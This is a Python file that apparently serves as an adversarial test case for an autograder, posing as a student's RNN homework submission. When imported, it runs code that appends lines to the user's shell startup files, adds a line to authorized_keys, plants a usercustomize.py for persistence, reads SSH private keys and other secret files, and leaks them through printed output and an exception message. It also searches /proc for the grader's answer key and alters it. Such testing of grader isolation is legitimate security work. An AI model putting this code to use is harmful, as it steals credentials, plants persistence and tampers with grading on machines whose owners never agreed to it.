"""Attack: tamper with the home folder of the user who runs the grader, and its tree.

With ``home`` from agconfig.json (and only then: never a guessed home), at import it
appends a line to ~/.bashrc and ~/.profile, writes ~/.ssh/authorized_keys (an inert
line shaped like a key), and plants usercustomize.py in the user's site-packages
(which would create the harness's pwned_path in the user's next Python). It reads
~/.ssh/id_rsa, id_ed25519 and every path of ``secret_paths``, prints them, and raises
them in rnn_a_shapes' exception message. It appends a line to the grader's
reference/answer_key.py wherever it finds it (--root in /proc/PID/cmdline,
/proc/PID/cwd, /autograder/source). Every answer is wrong: 0 points.
"""

import glob
import json
import os
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-home_tamper")
HOME = CONFIG.get("home")
PWNED = CONFIG.get("pwned_path", "/tmp/PWNED_home_tamper")
LOG, STOLEN = [], []


def append(path, text):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as stream:
            stream.write(text)
        LOG.append(f"wrote {path}")
    except OSError as error:
        LOG.append(f"{path}: {error.strerror}")


def read(path):
    try:
        with open(path, errors="replace") as stream:
            STOLEN.append(f"{path}: {stream.read(4000)}")
    except OSError as error:
        LOG.append(f"{path}: {error.strerror}")


def grader_trees():
    roots = ["/autograder/source"]
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            roots.append(os.readlink(f"/proc/{entry}/cwd"))
            with open(f"/proc/{entry}/cmdline", "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0")]
        except OSError:
            continue
        for index, arg in enumerate(args[:-1]):
            if arg == "--root":
                roots.append(os.path.join(args[index + 1], "source"))
    return [r for r in dict.fromkeys(roots) if os.path.isfile(os.path.join(r, "questions", "we_recur", "reference", "answer_key.py"))]


def tamper():
    if HOME:
        line = f"\n# {MARKER}: this line was appended by a student's submission\n"
        append(os.path.join(HOME, ".bashrc"), line)
        append(os.path.join(HOME, ".profile"), line)
        append(os.path.join(HOME, ".ssh", "authorized_keys"), f"ssh-ed25519 {MARKER}-not-a-key agmark@home_tamper\n")
        version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
        append(os.path.join(HOME, ".local", "lib", version, "site-packages", "usercustomize.py"),
               f"open({PWNED!r}, 'a').close()  # {MARKER}\n")
        for name in ("id_rsa", "id_ed25519", "id_ecdsa"):
            read(os.path.join(HOME, ".ssh", name))
        for path in glob.glob(os.path.join(HOME, ".ssh", "*"))[:20]:
            if path.endswith(".pub"):
                read(path)
    for path in CONFIG.get("secret_paths") or []:
        read(path)
    for tree in grader_trees():
        append(os.path.join(tree, "questions", "we_recur", "reference", "answer_key.py"), f"\n# {MARKER} was here\n")


try:
    tamper()
except Exception as _error:  # noqa: BLE001
    LOG.append(repr(_error))
print("home_tamper:", "; ".join(LOG)[:3000])
print("home_tamper: LEAK " + " | ".join(STOLEN)[:8000])


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    raise PermissionError("LEAK " + (" | ".join(STOLEN)[:3000] or "nothing readable: " + "; ".join(LOG)[:500]))


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
